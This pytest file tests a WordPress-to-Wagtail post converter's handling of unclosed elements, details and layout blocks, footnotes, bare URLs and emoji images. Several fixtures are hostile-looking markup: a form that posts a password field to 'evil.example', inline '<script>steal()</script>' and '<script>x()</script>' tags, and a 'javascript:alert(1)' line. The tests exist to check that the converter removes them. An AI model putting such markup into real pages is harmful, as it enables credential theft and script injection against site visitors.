"""Content the conversion used to lose from realistic WordPress 6.x posts: what follows an
unclosed ``<embed>``, ``<form>`` or ``<textarea>``, a details block's summary, loose text of
layout blocks, footnotes, bare links no embed finder knows and WordPress's emoji images."""

# Markup reads better unwrapped.
# ruff: noqa: E501

from __future__ import annotations

import json

import pytest

from tests.wordpress.converting import converter
from tests.wordpress.exports import Export
from wagtail_newsfeed.models import NewsArticlePage
from wagtail_newsfeed.wordpress.media import MediaRef
from wagtail_newsfeed.wordpress.survey import Attachment, Catalog


@pytest.fixture
def blocks_of():
    """``blocks_of(markup)`` -> (raw blocks, warnings as (kind, message)), no database."""
    catalog = Catalog(hosts={"old.example.com"})
    catalog.attachment_paths = {"2024/01/photo.jpg": 5}
    catalog.attachments = {5: Attachment(5, "2024/01/photo.jpg", "", "Photo", "", "", parent=1)}
    return converter(catalog, refs={5: MediaRef("image", 42)})


def values_of(raw) -> list:
    return [block["value"] for block in raw]


# Unclosed elements ---------------------------------------------------------------------------


def test_an_unclosed_embed_keeps_what_follows_it(blocks_of):
    raw, warnings = blocks_of(
        'Before\n<embed src="https://old.example.com/movie.swf" width=400>\n\nAfter one\n\n<p>After two</p>'
    )
    assert values_of(raw) == ["<p>Before</p><p>After one</p><p>After two</p>"]
    assert warnings == [("removed_markup", "<embed>")]


def test_an_unclosed_form_keeps_what_follows_it_and_a_form_its_text(blocks_of):
    raw, warnings = blocks_of(
        '<form action="https://evil.example"><input name="pw">\n\nAfter one\n\n<p>After two</p>'
    )
    assert values_of(raw) == ["<p>After one</p><p>After two</p>"]
    assert warnings == [
        ("removed_markup", "<form> (its text was kept)"),
        ("removed_markup", "<input>"),
    ]


def test_an_unclosed_textarea_keeps_what_follows_it(blocks_of):
    raw, warnings = blocks_of("<textarea>Value\n\nAfter one\n\n<p>After two</p>")
    assert values_of(raw) == ["<p>Value</p><p>After one</p><p>After two</p>"]
    assert warnings == [("removed_markup", "<textarea>")]


def test_a_closed_textarea_and_an_embed_closed_by_hand_are_still_dropped_alone(blocks_of):
    raw, warnings = blocks_of(
        '<textarea>Field value</textarea><embed src="a.swf"></embed><p>After</p><EMBED title="a>b" src="b.swf">Tail'
    )
    assert values_of(raw) == ["<p>After</p><p>Tail</p>"]
    assert warnings == [
        ("removed_markup", "<textarea>"),
        ("removed_markup", "<embed>"),
        ("removed_markup", "<embed>"),
    ]


# Layout blocks -------------------------------------------------------------------------------


def test_a_details_block_keeps_its_summary_as_a_heading(blocks_of):
    raw, warnings = blocks_of(
        '<!-- wp:details -->\n<details class="wp-block-details"><summary>Read the <em>details</em></summary>'
        '<!-- wp:paragraph {"placeholder":"Type / to add a hidden block"} -->\n<p>Hidden details text.</p>\n'
        "<!-- /wp:paragraph --></details>\n<!-- /wp:details -->"
    )
    assert raw == [
        {"type": "heading", "value": {"text": "Read the details", "level": "h3"}},
        {"type": "paragraph", "value": "<p>Hidden details text.</p>"},
    ]
    assert warnings == []


def test_loose_text_in_a_group_or_column_is_kept_in_its_place(blocks_of):
    raw, _ = blocks_of(
        '<!-- wp:group --><div class="wp-block-group">Loose before'
        "<!-- wp:paragraph --><p>Inner</p><!-- /wp:paragraph -->"
        '<!-- wp:columns --><div class="wp-block-columns"><!-- wp:column --><div class="wp-block-column">Column text</div><!-- /wp:column --></div><!-- /wp:columns -->'
        "Loose after</div><!-- /wp:group -->"
    )
    assert values_of(raw) == ["<p>Loose before</p><p>Inner</p><p>Column text</p><p>Loose after</p>"]


# Footnotes -----------------------------------------------------------------------------------

FOOTNOTED = (
    "<!-- wp:paragraph -->\n"
    '<p>A claim<sup data-fn="f1" class="fn"><a href="#f1" id="f1-link">1</a></sup> and another'
    '<sup data-fn="f2" class="fn"><a href="#f2" id="f2-link">2</a></sup>.</p>\n'
    "<!-- /wp:paragraph -->\n\n<!-- wp:footnotes /-->"
)
NOTES = json.dumps(
    [
        {"content": 'Source: <a href="https://example.org/report">the report</a>.', "id": "f1"},
        {"content": "Second <em>note</em><script>x()</script>", "id": "f2"},
    ]
)


@pytest.mark.django_db
def test_footnotes_are_imported_as_the_list_wordpress_shows(run_import):
    export = (
        Export().author(1, "alice", "Alice").post(1, "Noted", FOOTNOTED, meta={"footnotes": NOTES})
    )
    run_import(export)
    body = NewsArticlePage.objects.get().body.raw_data
    assert [block["value"] for block in body] == [
        "<p>A claim[1] and another[2].</p>",
        '<ol><li>Source: <a href="https://example.org/report">the report</a>.</li><li>Second <em>note</em></li></ol>',
    ]


@pytest.mark.parametrize(
    "meta", [None, "", "not json", "[" * 100_000, '{"a": 1}', '[1, {"id": "x"}]']
)
def test_footnotes_that_are_missing_or_not_a_list_of_notes_add_nothing(blocks_of, meta):
    raw, warnings = blocks_of(FOOTNOTED, meta)
    assert values_of(raw) == ["<p>A claim[1] and another[2].</p>"]
    assert warnings == []


def test_footnotes_are_shown_only_where_the_post_has_a_footnotes_block(blocks_of):
    raw, _ = blocks_of(FOOTNOTED.replace("<!-- wp:footnotes /-->", ""), NOTES)
    assert values_of(raw) == ["<p>A claim[1] and another[2].</p>"]


def test_a_script_in_a_list_item_is_dropped_with_its_text(blocks_of):
    raw, warnings = blocks_of("<ul><li>One<script>steal()</script></li></ul>")
    assert values_of(raw) == ["<ul><li>One</li></ul>"]
    assert warnings == [("removed_markup", "<script>")]


# Bare links ----------------------------------------------------------------------------------


def test_a_bare_url_on_its_own_line_that_no_finder_knows_is_a_link_with_a_report_line(blocks_of):
    raw, warnings = blocks_of(
        "Intro\n\nhttps://unknown.example.net/widget/1?a=1&b=2\n\nSee https://unknown.example.net/x inline."
    )
    assert values_of(raw) == [
        "<p>Intro</p>"
        '<p><a href="https://unknown.example.net/widget/1?a=1&amp;b=2">https://unknown.example.net/widget/1?a=1&amp;b=2</a></p>'
        "<p>See https://unknown.example.net/x inline.</p>"
    ]
    assert warnings == [("embed_as_link", "https://unknown.example.net/widget/1?a=1&b=2")]


def test_a_line_that_only_looks_like_a_url_stays_text(blocks_of):
    raw, warnings = blocks_of("javascript:alert(1)\n\nftp://files.example.net/x")
    assert values_of(raw) == ["<p>javascript:alert(1)</p><p>ftp://files.example.net/x</p>"]
    assert warnings == []


# Emoji ---------------------------------------------------------------------------------------


def test_wordpress_emoji_and_smiley_images_become_their_characters(blocks_of):
    raw, warnings = blocks_of(
        'Ships <img draggable="false" role="img" class="emoji" alt="🚢" src="https://s.w.org/images/core/emoji/15.0.3/svg/1f6a2.svg"> ahoy'
        ' <img src="https://old.example.com/wp-includes/images/smilies/icon_smile.gif" alt=":)" class="wp-smiley" style="height: 1em">'
        '\n\n<!-- wp:html --><p>In html <img class="emoji" alt="⚓" src="https://s.w.org/x.svg"></p><!-- /wp:html -->'
    )
    assert values_of(raw) == ["<p>Ships 🚢 ahoy :)</p>", "<p>In html ⚓</p>"]
    assert warnings == [("html_block", "custom HTML block")]
